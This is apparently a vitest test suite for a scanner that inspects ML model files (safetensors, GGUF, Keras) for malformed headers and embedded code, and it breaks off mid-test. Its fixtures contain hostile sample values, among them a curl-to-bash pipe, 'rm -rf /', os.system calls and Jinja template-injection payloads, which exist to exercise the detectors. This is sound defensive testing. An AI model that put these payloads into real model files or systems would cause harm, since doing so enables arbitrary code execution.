import { describe, expect, it } from 'vitest';
import { fingerprintOf } from '../../../src/core/fingerprint.js';
import type { AnalysisReport } from '../../../src/inspect/analyser.js';
import { parseGguf } from '../../../src/inspect/formats/gguf.js';
import { checkKerasConfig } from '../../../src/inspect/formats/keras-config.js';
import { parseKerasArchive } from '../../../src/inspect/formats/keras.js';
import { escapeReason, parseOnnx } from '../../../src/inspect/formats/onnx.js';
import { Findings, runParser } from '../../../src/inspect/formats/report.js';
import { parseSafetensors } from '../../../src/inspect/formats/safetensors.js';
import { parseSavedModelPb, parseSavedModelPbtxt } from '../../../src/inspect/formats/savedmodel.js';
import type { RandomAccess } from '../../../src/inspect/formats/source.js';
import { bufferSource } from '../../../src/inspect/formats/source.js';
import { parseTfjsManifest } from '../../../src/inspect/formats/tfjs.js';
import { parseTflite } from '../../../src/inspect/formats/tflite.js';
import {
  externalWeightsModel,
  flexModel,
  gguf,
  kerasArchive,
  onnxModel,
  pb,
  type Pb,
  safetensors,
  savedModel,
  sequential,
  zip,
} from './build.js';

type Parser = (src: RandomAccess, out: Findings) => void;

function run(parse: Parser, data: Buffer): AnalysisReport & { rules: string[] } {
  const r = runParser(bufferSource(data), new Findings('m', 'test'), 'the file', parse);
  return { ...r, rules: [...new Set(r.findings.map((f) => f.ruleId))].sort() };
}

/** A one-byte tensor whose unknown field `x` holds `arrays` arrays inside one another, around `inner`. */
const nested = (arrays: number, inner = '') =>
  safetensors(
    `{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":${'['.repeat(arrays)}${inner}${']'.repeat(arrays)}}}`,
    1,
  );
const F32 = (n: number, at = 0) => ({ dtype: 'F32', shape: [n], data_offsets: [at, at + 4 * n] });

describe('safetensors', () => {
  it.each([
    {
      name: 'valid, two tensors and metadata',
      input: safetensors({ __metadata__: { format: 'pt' }, a: F32(2), b: F32(1, 8) }, 12),
      want: [],
      status: 'ok',
    },
    { name: 'empty tensor set', input: safetensors({}, 0), want: [], status: 'ok' },
    {
      name: 'sub-byte dtype F4',
      input: safetensors({ a: { dtype: 'F4', shape: [4], data_offsets: [0, 2] } }, 2),
      want: [],
      status: 'ok',
    },
    // safetensors 0.8 safe_open takes the AMD FP8 dtypes, one byte each, and refuses names it does not know.
    {
      name: 'FP8 FNUZ dtypes',
      input: safetensors(
        {
          a: { dtype: 'F8_E4M3FNUZ', shape: [2], data_offsets: [0, 2] },
          b: { dtype: 'F8_E5M2FNUZ', shape: [2], data_offsets: [2, 4] },
        },
        4,
      ),
      want: [],
      status: 'ok',
    },
    {
      name: 'a dtype the library does not know',
      input: safetensors({ a: { dtype: 'F8_E4M3FN', shape: [2], data_offsets: [0, 2] } }, 2),
      want: ['CPI052'],
      status: 'ok',
    },
    {
      name: 'shape disagrees with byte range',
      input: safetensors({ a: { dtype: 'F32', shape: [3], data_offsets: [0, 8] } }, 8),
      want: ['CPI053'],
      status: 'ok',
    },
    { name: 'range past the data', input: safetensors({ a: F32(4) }, 8), want: ['CPI053'], status: 'ok' },
    { name: 'trailing hidden bytes', input: safetensors({ a: F32(1) }, 12), want: ['CPI053'], status: 'ok' },
    {
      name: 'end before begin',
      input: safetensors({ a: { dtype: 'U8', shape: [0], data_offsets: [4, 0] } }, 4),
      want: ['CPI052', 'CPI053'],
      status: 'ok',
    },
    {
      name: 'duplicate tensor name',
      input: safetensors(
        '{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
        1,
      ),
      want: ['CPI052'],
      status: 'ok',
    },
    {
      name: 'metadata holding a list',
      input: safetensors({ __metadata__: { x: ['a'] } }, 0),
      want: ['CPI052'],
      status: 'ok',
    },
    {
      name: 'metadata holding Python code',
      input: safetensors({ __metadata__: { info: "import os; os.system('id')" }, a: F32(1) }, 4),
      want: ['CPI133'],
      status: 'ok',
    },
    {
      name: 'metadata holding a shell pipe and an HTML script',
      input: safetensors(
        { __metadata__: { setup: 'curl -s https://x.example/i | bash', readme: '<script>alert(1)</script>' } },
        0,
      ),
      want: ['CPI133'],
      status: 'ok',
    },
    {
      name: 'metadata holding a spaced call on a string',
      input: safetensors({ __metadata__: { note: "exec ('import os')" } }, 0),
      want: ['CPI133'],
      status: 'ok',
    },
    {
      // Prose puts a space before a parenthesis; a call on a string would still count (the case above).
      name: 'training notes with a parenthesis after eval and compile',
      input: safetensors(
        {
          __metadata__: {
            ss_training_comment: 'eval (every 500 steps) on the val split; compile (torch 2.1) was off',
            'modelspec.description': 'Best epoch by eval (CLIP score). Exec (producer): jane',
          },
        },
        0,
      ),
      want: [],
      status: 'ok',
    },
    {
      // kohya-ss LoRA and ModelSpec fields as trainers write them: paths, tags, JSON, prose — no code.
      name: 'realistic training metadata',
      input: safetensors(
        {
          __metadata__: {
            format: 'pt',
            ss_network_module: 'networks.lora',
            ss_output_name: 'style-import-os-v2',
            ss_dataset_dirs: '{"img/10_style": {"n_repeats": 10, "img_count": 42}}',
            ss_tag_frequency: '{"img": {"system prompt": 3, "eval set": 1, "rm": 2}}',
            ss_training_comment: 'evaluated on held-out images; import from kohya_ss scripts; see https://example.com',
            'modelspec.description': 'Run with `python sample.py --model style.safetensors`.',
            'modelspec.license': 'openrail-m',
          },
        },
        0,
      ),
      want: [],
      status: 'ok',
    },
    {
      name: 'odd bit count',
      input: safetensors({ a: { dtype: 'F4', shape: [3], data_offsets: [0, 2] } }, 2),
      want: ['CPI052'],
      status: 'ok',
    },
    {
      name: 'astronomic shape',
      input: safetensors({ a: { dtype: 'U8', shape: Array(12).fill(2 ** 52), data_offsets: [0, 1] } }, 1),
      want: ['CPI052'],
      status: 'ok',
    },
    { name: 'not JSON', input: safetensors('{"a": nope}', 0, false), want: ['CPI050'], status: 'failed' },
    { name: 'JSON not an object', input: safetensors('[1]', 0, false), want: ['CPI050'], status: 'failed' },
    {
      name: 'header past the file end',
      input: Buffer.from([0x40, 0, 0, 0, 0, 0, 0, 0, 0x7b, 0x7d]),
      want: ['CPI050'],
      status: 'failed',
    },
    { name: 'shorter than the length field', input: Buffer.from([1, 2, 3]), want: ['CPI050'], status: 'failed' },
    {
      name: 'invalid UTF-8 header',
      input: safetensors(Buffer.from([0x7b, 0xff, 0x7d]).toString('latin1'), 0, false).fill(0xff, 9, 10),
      want: ['CPI052'],
      status: 'ok',
    },
    // serde's derived TensorInfo also reads a sequence of its three fields (safetensors 0.8 safe_open loads it).
    {
      name: 'entry as [dtype, shape, data_offsets]',
      input: safetensors({ a: ['U8', [8], [0, 8]] }, 8),
      want: [],
      status: 'ok',
    },
    {
      name: 'entry as a list of four',
      input: safetensors({ a: ['U8', [8], [0, 8], 1] }, 8),
      want: ['CPI052', 'CPI053'],
      status: 'ok',
    },
    // serde_json's recursion limit: 127 arrays and objects inside one another load, 128 do not (safetensors 0.8).
    { name: '127 containers deep', input: nested(125), want: [], status: 'ok' },
    { name: '128 containers deep', input: nested(126), want: ['CPI052'], status: 'ok' },
    { name: 'brackets inside strings', input: nested(20, '"[[[[{{{{\\"[[[["'), want: [], status: 'ok' },
  ])('$name → $want', ({ input, want, status }) => {
    const r = run(parseSafetensors, input);
    expect(r.rules).toEqual(want);
    expect(r.status).toBe(status);
  });
});

/**
 * Integers past 2^53 in a shape, which JavaScript rounds: safetensors `Metadata::validate` multiplies the exact `usize`s
 * with `checked_mul` in order, so a 0 before a huge dimension loads and a 0 after an overflow does not. Each verdict
 * was taken from safetensors 0.8 `safe_open` over the same header.
 */
describe('safetensors shapes past 2^53', () => {
  const header = (shape: string, dtype = 'F32', offsets = '[0,0]') =>
    safetensors(`{"a":{"dtype":"${dtype}","shape":${shape},"data_offsets":${offsets}}}`, 0);
  const checks = (data: Buffer) =>
    run(parseSafetensors, data).findings.map((f) => `${f.ruleId} ${String(f.evidence?.check)}`);
  it.each([
    { name: '0 then 2^64 - 1 loads', input: header('[0,18446744073709551615]'), want: [] },
    { name: '2^64 - 1 then 0 loads', input: header('[18446744073709551615,0]'), want: [] },
    { name: 'bits past 2^64 times 0 loads', input: header('[4611686018427387904,0]'), want: [] },
    { name: '2^63 × 4 overflows before the 0', input: header('[9223372036854775808,4,0]'), want: ['CPI052 tensor'] },
    {
      name: '2^63 × 2 is exactly 2^64: overflows',
      input: header('[9223372036854775808,2,0]'),
      want: ['CPI052 tensor'],
    },
    {
      name: '2^61 F64: the bit count overflows',
      input: header('[2305843009213693952]', 'F64'),
      want: ['CPI052 tensor'],
    },
    { name: '2^64 is a float to serde_json', input: header('[18446744073709551616,0]'), want: ['CPI052 tensor'] },
    // 2^53 + 1 bytes of U8 against an empty range: exact, not rounded to 2^53.
    { name: '2^53 + 1 elements of U8', input: header('[9007199254740993]', 'U8'), want: ['CPI053 size'] },
    // Offsets past the file: one bounds problem, no "hidden" gap past the end.
    {
      name: 'offsets past 2^53',
      input: header('[0]', 'F32', '[9007199254740993,9007199254740993]'),
      want: ['CPI053 bounds'],
    },
  ])('$name → $want', ({ input, want }) => {
    expect(checks(input)).toEqual(want);
  });

  it('names the exact dimension in the message', () => {
    const [f] = run(parseSafetensors, header('[9007199254740993]', 'U8')).findings;
    expect(f?.message).toContain('shape [9007199254740993] of U8 needs 9007199254740993');
    expect(f?.evidence?.expected).toBe('9007199254740993');
  });
});

describe('gguf zero dimensions', () => {
  it('names the crash of older llama.cpp builds, not a refusal, and the change that made current ones read it', () => {
    const [f] = run(parseGguf, gguf({ tensors: [{ name: 'a', dims: [4, 0], type: 0, offset: 0 }] })).findings;
    expect(f?.evidence?.check).toBe('zero-dimension');
    expect(f?.message).toContain('SIGFPE');
    // ggml-org/llama.cpp gguf.cpp (067d44f6) guards the division with `ggml_nelements(&info.t) > 0` (PR #25596).
    expect(f?.message).toContain('PR #25596');
    expect(f?.message).not.toContain('No converter writes');
  });
});

/** Duplicate keys as `Metadata::deserialize` (safetensors tensor.rs, serde) reads them. */
describe('safetensors duplicate keys', () => {
  const U8 = '{"dtype":"U8","shape":[1],"data_offsets":[0,1]}';
  const messages = (header: string) =>
    run(parseSafetensors, safetensors(header, 1))
      .findings.filter((f) => f.evidence?.check === 'duplicate-key')
      .map((f) => f.message);

  it('says every reader keeps the last entry of a tensor named twice, once for many names', () => {
    const names = ['a', 'b', 'c'].map((n) => `"${n}":${U8},"${n}":${U8}`).join(',');
    const [m, ...rest] = messages(`{${names}}`);
    expect(rest).toEqual([]);
    expect(m).toContain('tensor "a" twice; safetensors, json.loads and JSON.parse all keep the last entry');
    expect(m).toContain('2 more tensors have the same problem');
    expect(m).not.toContain('disagree');
  });

  it('says the loader rejects __metadata__ or a tensor field given twice', () => {
    expect(messages(`{"__metadata__":{},"__metadata__":{},"a":${U8}}`)).toEqual([
      'm: the header holds __metadata__ twice; the loader rejects it.',
    ]);
    expect(messages('{"a.b":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}}')).toEqual([
      'm: the header gives tensor "a.b" its dtype twice; the loader rejects it (serde: duplicate field).',
    ]);
  });

  it('passes what serde and json.loads agree on: a metadata key or an unknown tensor field twice', () => {
    expect(messages(`{"__metadata__":{"format":"pt","format":"pt"},"a":${U8}}`)).toEqual([]);
    expect(messages('{"a":{"dtype":"U8","x":1,"x":2,"shape":[1],"data_offsets":[0,1]}}')).toEqual([]);
  });

  // The `$.w.dtype` path text cannot tell tensor "w.dtype" from field dtype of "w": judged by key depth instead.
  it('tells a field given twice from a tensor whose name holds a dot, and an unknown field from a tensor', () => {
    expect(messages('{"w":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]},"w.dtype":' + U8 + '}')).toEqual(
      ['m: the header gives tensor "w" its dtype twice; the loader rejects it (serde: duplicate field).'],
    );
    // An unknown field is skipped whole (`IgnoredAny`), so a duplicate inside it breaks nothing.
    expect(messages('{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":{"shape":1,"shape":2}}}')).toEqual([]);
    expect(messages('{"__metadata__":{"dtype":"a","dtype":"b"},"a":' + U8 + '}')).toEqual([]);
  });
});

describe('gguf', () => {
  const tmpl = (value: string, key = 'tokenizer.chat_template'): [string, { type: 'string'; value: string }] => [
    key,
    { type: 'string', value },
  ];
  it.each([
    {
      name: 'v3 with tensors and vocab',
      input: gguf({
        kv: [['tokenizer.ggml.tokens', { type: 'array-string', value: ['a', 'b'] }]],
        tensors: [
          { name: 'w', dims: [32, 2], type: 8, offset: 0 },
          { name: 'v', dims: [4], type: 0, offset: 96 },
        ],
        dataLen: 112,
      }),
      want: [],
      status: 'ok',
    },
    {
      name: 'v1 (32-bit counts)',
      input: gguf({
        version: 1,
        kv: [['general.name', { type: 'string', value: 'x' }]],
        tensors: [{ name: 'w', dims: [8], type: 0, offset: 0 }],
        dataLen: 32,
      }),
      want: [],
      status: 'ok',
    },
    {
      name: 'v2',
      input: gguf({ version: 2, tensors: [{ name: 'w', dims: [8], type: 1, offset: 0 }], dataLen: 16 }),
      want: [],
      status: 'ok',
    },
    {
      name: 'custom alignment',
      input: gguf({
        kv: [['general.alignment', { type: 'u32', value: 64 }]],
        tensors: [
          { name: 'a', dims: [1], type: 0, offset: 0 },
          { name: 'b', dims: [1], type: 0, offset: 32 },
        ],
        dataLen: 64,
      }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'benign template',
      input: gguf({ kv: [tmpl("{% for m in messages %}{{ '<|im_start|>' + m['role'] }}{% endfor %}")] }),
      want: [],
      status: 'ok',
    },
    {
      name: 'SSTI in a named template',
      input: gguf({
        kv: [['tokenizer.chat_template.tool_use', { type: 'string', value: '{{ lipsum.__globals__ }}' }]],
      }),
      want: ['CPI055'],
      status: 'ok',
    },
    {
      name: 'template that repeats a string a billion times (the sandbox allows it)',
      input: gguf({ kv: [tmpl("{% for m in messages %}{{ m['content'] }}{% endfor %}{{ 'A' * 1000000000 }}")] }),
      want: ['CPI055'],
      status: 'ok',
    },
    {
      name: 'overlapping tensors',
      input: gguf({
        tensors: [
          { name: 'a', dims: [16], type: 0, offset: 0 },
          { name: 'b', dims: [8], type: 0, offset: 32 },
        ],
        dataLen: 64,
      }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'unknown ggml type',
      input: gguf({ tensors: [{ name: 'a', dims: [1], type: 99, offset: 0 }], dataLen: 32 }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'block size mismatch',
      input: gguf({ tensors: [{ name: 'a', dims: [33], type: 2, offset: 0 }], dataLen: 64 }),
      want: ['CPI056'],
      status: 'ok',
    },
    // gguf_init_from_reader divides INT64_MAX by ne[1..3] (a 0 in ne[0] is only a dividend) in builds before llama.cpp #25596.
    {
      name: 'an empty tensor (0 in the first dimension)',
      input: gguf({ tensors: [{ name: 'a', dims: [0, 4], type: 0, offset: 0 }] }),
      want: [],
      status: 'ok',
    },
    {
      name: '0 in a later dimension',
      input: gguf({ tensors: [{ name: 'a', dims: [4, 0], type: 0, offset: 0 }] }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'duplicate key',
      input: gguf({
        kv: [
          ['a', { type: 'u32', value: 1 }],
          ['a', { type: 'u32', value: 2 }],
        ],
      }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'duplicate tensor',
      input: gguf({
        tensors: [
          { name: 'a', dims: [8], type: 0, offset: 0 },
          { name: 'a', dims: [8], type: 0, offset: 32 },
        ],
        dataLen: 64,
      }),
      want: ['CPI056'],
      status: 'ok',
    },
    {
      name: 'five dimensions',
      input: gguf({ tensors: [{ name: 'a', dims: [1, 1, 1, 1, 1], type: 0, offset: 0 }] }),
      want: ['CPI050'],
      status: 'failed',
    },
    // Counts and lengths past the file: llama.cpp's reads fail, so a parse failure (not a limit) whatever the cap.
    { name: 'huge tensor count', input: gguf({ tensorCount: 1n << 40n }), want: ['CPI050'], status: 'failed' },
    { name: 'count bigger than the file', input: gguf({ kvCount: 1000n }), want: ['CPI050'], status: 'failed' },
    {
      name: 'huge string length',
      input: gguf({ kv: [['k', { type: 'raw', typeId: 8, bytes: Buffer.from('ffffffffffffff7f', 'hex') }]] }),
      want: ['CPI050'],
      status: 'failed',
    },
    {
      name: 'huge array',
      input: gguf({ kv: [['k', { type: 'raw', typeId: 9, bytes: Buffer.from('00000000ffffffffffffff00', 'hex') }]] }),
      want: ['CPI050'],
      status: 'failed',
    },
    {
      name: 'unknown value type',
      input: gguf({ kv: [['k', { type: 'raw', typeId: 13, bytes: Buffer.alloc(8) }]] }),
      want: ['CPI050'],
      status: 'failed',
    },
    {
      name: 'deeply nested arrays',
      input: gguf({
        kv: [
          [
            'k',
            {
              type: 'raw',
              typeId: 9,
              bytes: Buffer.from(
                '09000000' +
                  '0100000000000000' +
                  '09000000'.repeat(1) +
                  '0100000000000000' +
                  '09000000' +
                  '0100000000000000' +
                  '09000000' +
                  '0100000000000000' +
                  '09000000' +
                  '0100000000000000',
                'hex',
              ),
            },
          ],
        ],
      }),
      // nested at all: llama.cpp's gguf.cpp rejects it (CPI056); past the depth limit: the rest of the metadata is
      // not read (CPI051, at error: gguf-limits.test.ts)
      want: ['CPI051', 'CPI056'],
      status: 'partial',
    },
    {
      name: 'version 4',
      input: Buffer.concat([Buffer.from('GGUF'), Buffer.from([4, 0, 0, 0]), Buffer.alloc(16)]),
      want: ['CPI050'],
      status: 'failed',
    },
    { name: 'not GGUF', input: Buffer.from('GGML\x01\x00\x00\x00'), want: ['CPI050'], status: 'failed' },
    {
      name: 'bad alignment',
      input: gguf({ kv: [['general.alignment', { type: 'u32', value: 48 }]] }),
      want: ['CPI050'],
      status: 'failed',
    },
  ])('$name → $want', ({ input, want, status }) => {
    const r = run(parseGguf, input);
    expect(r.rules).toEqual(want);
    expect(r.status).toBe(status);
  });

  // An unchecked template could hold an injection: the limit finding fails the default gate.
  it.each([
    { name: 'one template past 256 KiB', kv: [tmpl('{{ x }}'.padEnd(256 * 1024 + 1, ' '))] },
    {
      name: 'five templates of 250 KiB, past the 1 MiB total',
      kv: Array.from({ length: 5 }, (_, i) => tmpl('{{ x }}'.padEnd(250 * 1024, ' '), `tokenizer.chat_template.t${i}`)),
    },
  ])('$name: CPI051 at error, status partial', ({ kv }) => {
    const r = run(parseGguf, gguf({ kv }));
    expect(r.rules).toEqual(['CPI051']);
    expect(r.findings.map((f) => f.level)).toEqual(['error']);
    expect(r.status).toBe('partial');
  });

  // Long whitespace runs are shortened before the Jinja parser (its preprocess regex backtracks quadratically on them).
  it('a payload after 200 KiB of whitespace is still found', () => {
    const r = run(
      parseGguf,
      gguf({ kv: [tmpl(`{{ x }}${' \t'.repeat(100 * 1024)}\n{{ cycler['_' ~ '_init_' ~ '_'] }}`)] }),
    );
    expect(r.rules).toEqual(['CPI055']);
  });

  it('a template within the limits is checked (no limit finding)', () => {
    const r = run(parseGguf, gguf({ kv: [tmpl('{{ x }}'.padEnd(200 * 1024, ' '))] }));
    expect(r.findings).toEqual([]);
  });
});

describe('keras config', () => {
  const check = (config: unknown) => {
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig(config as never, out);
    return [...new Set(out.list.map((f) => f.ruleId))].sort();
  };
  const fn = (module: string, name: string) => ({
    module,
    class_name: 'function',
    config: name,
    registered_name: name,
  });
  it.each([
    {
      // Keras looks the loss up by name and fails; a loader that evals it would run it (CPI133, a warning).
      name: 'compile config whose loss is Python source text',
      input: { compile_config: { loss: "lambda y, p: __import__('os').system('id')", metrics: ['accuracy'] } },
      want: ['CPI133'],
    },
    {
      name: 'compile config with names and a layer with a shell command as a value',
      input: sequential([{ class_name: 'Dense', config: { name: 'd', note: 'rm -rf / --no-preserve-root' } }]),
      want: ['CPI133'],
    },
    {
      name: 'realistic compile config',
      input: {
        compile_config: {
          optimizer: { module: 'keras.optimizers', class_name: 'Adam', config: { learning_rate: 0.001 } },
          loss: 'sparse_categorical_crossentropy',
          metrics: ['accuracy'],
        },
      },
      want: [],
    },
    {
      // tf_keras func_load unmarshals any string (base64, else its raw_unicode_escape bytes): still bytecode.
      name: 'Lambda with function_type lambda and a text function',
      input: sequential([
        { class_name: 'Lambda', config: { name: 'l', function: 'c\x00\x00', function_type: 'lambda' } },
      ]),
      want: ['CPI060'],
    },
    {
      name: 'dense with activation function object',
      input: sequential([
        {
          module: 'keras.layers',
          class_name: 'Dense',
          config: { name: 'd', activation: fn('keras.src.activations.activations', 'relu') },
        },
      ]),
      want: [],
    },
    {
      name: 'functional model with keras ops',
      input: {
        module: 'keras.src.models.functional',
        class_name: 'Functional',
        config: { layers: [{ module: 'keras.src.ops.numpy', class_name: 'Add', config: {} }] },
      },
      want: [],
    },
    {
      name: 'legacy lambda (function list)',
      input: {
        class_name: 'Lambda',
        config: { name: 'l', function: ['4wEAAAAA', null, null], function_type: 'lambda' },
      },
      want: ['CPI060'],
    },
    {
      name: 'lambda activation in a Dense layer',
      input: {
        module: 'keras.layers',
        class_name: 'Dense',
        config: { activation: { class_name: '__lambda__', config: { code: 'YQ==' } } },
      },
      want: ['CPI060'],
    },
    {
      name: 'legacy output_shape lambda',
      input: { class_name: 'Custom', config: { output_shape_type: 'lambda' } },
      want: ['CPI060'],
    },
    { name: 'builtins.exec function', input: sequential([fn('builtins', 'exec')]), want: ['CPI061'] },
    // _retrieve_class_or_fn: a `builtins` function is Keras's (BUILTIN_MODULES), then Python's; any other name only
    // the loading program's registered functions or custom_objects resolve (Keras <= 3.6 saved custom ones so).
    { name: 'builtins relu (Keras 2.13 activation)', input: sequential([fn('builtins', 'relu')]), want: [] },
    { name: 'builtins sum (a Python builtin)', input: sequential([fn('builtins', 'sum')]), want: [] },
    {
      name: 'builtins function neither Keras nor Python has (a custom loss)',
      input: { compile_config: { loss: fn('builtins', 'malicious_loss') } },
      want: ['CPI062'],
    },
    { name: 'subprocess class', input: { module: 'subprocess', class_name: 'Popen', config: {} }, want: ['CPI061'] },
    {
      name: 'keras.src.utils.file_utils.get_file',
      input: { module: 'keras.src.utils.file_utils', class_name: 'function', config: 'get_file' },
      want: ['CPI061'],
    },
    {
      name: 'nested load_model',
      input: { module: 'keras.models', class_name: 'function', config: 'load_model' },
      want: ['CPI061'],
    },
    // The same helper modules under the other names _retrieve_class_or_fn imports them by: TensorFlow's
    // tensorflow.keras (tf_keras or Keras 3's _tf_keras tree), Keras 3's api tree; their layers stay clean.
    { name: 'tensorflow.keras.utils.plot_model', input: fn('tensorflow.keras.utils', 'plot_model'), want: ['CPI061'] },
    {
      name: 'tensorflow.keras.saving.deserialize_keras_object',
      input: fn('tensorflow.keras.saving', 'deserialize_keras_object'),
      want: ['CPI061'],
    },
    {
      name: 'keras._tf_keras.keras.utils.plot_model',
      input: fn('keras._tf_keras.keras.utils', 'plot_model'),
      want: ['CPI061'],
    },
    { name: 'keras.api.utils.plot_model', input: fn('keras.api.utils', 'plot_model'), want: ['CPI061'] },
    // keras.export writes a SavedModel to the path it is given; keras.distribution.initialize (and each backend's
    // distribution_lib.initialize) joins the coordinator at job_addresses over the network.
    {
      name: 'keras.src.export.saved_model.export_saved_model',
      input: fn('keras.src.export.saved_model', 'export_saved_model'),
      want: ['CPI061'],
    },
    { name: 'keras.distribution.initialize', input: fn('keras.distribution', 'initialize'), want: ['CPI061'] },
    {
      name: 'keras.src.backend.jax.distribution_lib.initialize',
      input: fn('keras.src.backend.jax.distribution_lib', 'initialize'),
      want: ['CPI061'],
    },
    { name: 'keras.src.ops.numpy.tanh', input: fn('keras.src.ops.numpy', 'tanh'), want: [] },
    {
      name: 'tensorflow.keras.layers.Dense',
      input: { module: 'tensorflow.keras.layers', class_name: 'Dense', config: {} },
      want: [],
    },
    {
      name: 'TorchModuleWrapper',
      input: { module: 'keras.layers', class_name: 'TorchModuleWrapper', config: {} },
      want: ['CPI061'],
    },
    {
      name: 'safe_mode false',
      input: { module: 'keras.layers', class_name: 'Dense', config: { safe_mode: false } },
      want: ['CPI063'],
    },
    {
      name: 'enable_unsafe_deserialization',
      input: fn('keras.src.saving.serialization_lib', 'enable_unsafe_deserialization'),
      want: ['CPI063'],
    },
    { name: 'user package layer', input: { module: 'acme.layers', class_name: 'Scale', config: {} }, want: ['CPI062'] },
    // Keras < 3.9 `_retrieve_class_or_fn` imports any module and returns `vars(mod)[name]`; a functional model
    // calls it with the node's arguments. Callables the pickle judge knows to run code are errors here too.
    { name: 'timeit.timeit as a layer', input: fn('timeit', 'timeit'), want: ['CPI061'] },
    { name: 'pdb.run as a layer', input: fn('pdb', 'run'), want: ['CPI061'] },
    { name: 'pandas.read_pickle as a layer', input: fn('pandas', 'read_pickle'), want: ['CPI061'] },
    {
      name: 'a TensorFlow op outside Keras',
      input: fn('tensorflow.python.ops.nn_impl', 'l2_normalize'),
      want: ['CPI062'],
    },
  ])('$name → $want', ({ input, want }) => {
    expect(check(input)).toEqual(want);
  });

  it.each([
    { name: 'plain zip is not claimed', input: zip([{ name: 'a.txt', data: 'x' }]), claim: false, want: [] },
    {
      name: 'Keras-laid-out zip is claimed',
      input: kerasArchive({ module: 'os', class_name: 'system' }),
      claim: false,
      want: ['CPI061'],
    },
    {
      name: 'Keras archive without config.json',
      input: zip([{ name: 'metadata.json', data: '{}' }]),
      claim: true,
      want: ['CPI050'],
    },
    {
      name: 'two config.json entries',
      input: zip([
        { name: 'metadata.json', data: '{}' },
        { name: 'config.json', data: '{}' },
        { name: 'config.json', data: JSON.stringify({ class_name: 'Lambda', config: {} }) },
      ]),
      claim: true,
      want: ['CPI050', 'CPI060'],
    },
    {
      name: 'config.json with Python NaN',
      input: kerasArchive('{"class_name": "Dense", "config": {"l2": NaN}}'),
      claim: true,
      want: [],
    },
    { name: 'broken config.json', input: kerasArchive('{"class_name": '), claim: true, want: ['CPI050'] },
    { name: 'not a zip at all', input: Buffer.from('hello'), claim: true, want: ['CPI050'] },
  ])('archive: $name → $want', ({ input, claim, want }) => {
    expect(run((s, o) => parseKerasArchive(s, o, claim), input).rules).toEqual(want);
  });

  // Keras 3 `Lambda.from_config` → `_raise_for_lambda_deserialization` in safe mode, the .keras default; the legacy
  // loaders that read the same layer from an .h5 model_config run it.
  it('says safe mode refuses a .keras Lambda but the legacy loaders run it', () => {
    const lambda = sequential([
      { class_name: 'Lambda', config: { name: 'l', function: { class_name: '__lambda__', config: { code: 'YQ==' } } } },
    ]);
    const archive = run((s, o) => parseKerasArchive(s, o, true), kerasArchive(JSON.stringify(lambda)));
    expect(archive.findings.map((f) => f.message).join('\n')).toContain(
      "Keras's safe mode, the default for .keras models, refuses it, but its error tells the user to pass safe_mode=False, which runs the code",
    );
    const legacy = new Findings('m.h5', 'keras');
    checkKerasConfig(lambda as never, legacy);
    expect(legacy.list.map((f) => f.message).join('\n')).toContain('loading the model runs its code');
  });

  // _retrieve_class_or_fn imports any module in Keras 3 < 3.9 and tf_keras, only Keras's own packages from 3.9.
  it('says which Keras versions import a module outside Keras', () => {
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig(
      { class_name: 'Sequential', config: { layers: [{ module: 'evilpkg.layers', class_name: 'Foo', config: {} }] } },
      out,
    );
    expect(out.list.map((f) => f.message)).toEqual([
      'm.keras: the config at $.config.layers[0] references evilpkg.layers.Foo, outside Keras: Keras 3 before 3.9 and tf_keras import the module (running its top-level code) and call it while loading, safe mode or not; Keras 3.9+ refuses it unless the loading program registered that name. Load it only if that is code you trust.',
    ]);
  });

  // tf_keras Lambda._parse_function_from_config reads sys.modules[module]: it never imports the module.
  it('says a named Lambda function is looked up in an already-imported module, not imported', () => {
    const out = new Findings('m.keras', 'keras');
    const lambda = { class_name: 'Lambda', config: { name: 'l', function: 'system', module: 'os' } };
    checkKerasConfig({ class_name: 'Sequential', config: { layers: [lambda] } }, out);
    expect(out.list.map((f) => [f.ruleId, f.message])).toEqual([
      [
        'CPI061',
        'm.keras: the config at $.config.layers[0].config.function names os.system, which reaches code, processes or files: tf_keras looks the name up in that module when the loading program has already imported it (os and sys always are) and calls it while loading; Keras 3 finds only a name the loading program registered. Do not load this model.',
      ],
    ]);
  });

  // serialization_lib.deserialize_keras_object hands build_config to build_from_config, which builds from shapes.
  it('a reference inside build_config is one warning saying Keras never imports it, not a "loading runs it" error', () => {
    const dense = (name: string, input_shape: unknown) => ({
      module: 'keras.layers',
      class_name: 'Dense',
      config: { name, units: 2 },
      registered_name: null,
      build_config: { input_shape },
    });
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig(
      {
        class_name: 'Sequential',
        config: {
          layers: [
            dense('a', fn('os', 'system')),
            dense('b', { module: 'evil.pkg', class_name: 'Foo', config: {} }),
            dense('c', [null, 4]),
          ],
        },
      } as never,
      out,
    );
    expect(out.list.map((f) => [f.ruleId, f.level ?? 'default'])).toEqual([['CPI062', 'default']]);
    expect(out.list[0]!.message).toContain(
      'inside build_config, at $.config.layers[0].build_config.input_shape (os.system), $.config.layers[1].build_config.input_shape (evil.pkg.Foo). Keras never imports or calls it there',
    );
  });

  // A custom class's own build_from_config may deserialize its build_config (keras.io custom build example).
  it.each([
    { name: 'a custom module', owner: { module: 'evil', class_name: 'L' } },
    { name: 'no module', owner: { class_name: 'L' } },
    {
      name: 'a registered custom name',
      owner: { module: 'keras.layers', class_name: 'Dense', registered_name: 'my>L' },
    },
  ])('a reference inside the build_config of $name is judged as a load-time reference', ({ owner }) => {
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig({ ...owner, build_config: { x: fn('os', 'system') } }, out);
    const built = out.list.filter((f) => f.message.includes('$.build_config.x'));
    expect(built.map((f) => f.ruleId)).toEqual(['CPI061']);
  });
});

describe('onnx, savedmodel, tflite, tfjs', () => {
  it.each([
    { input: 'weights.bin', want: undefined },
    { input: 'sub/dir/../weights.bin', want: undefined },
    { input: './w.bin', want: undefined },
    { input: '../w.bin', want: 'which leaves the model folder' },
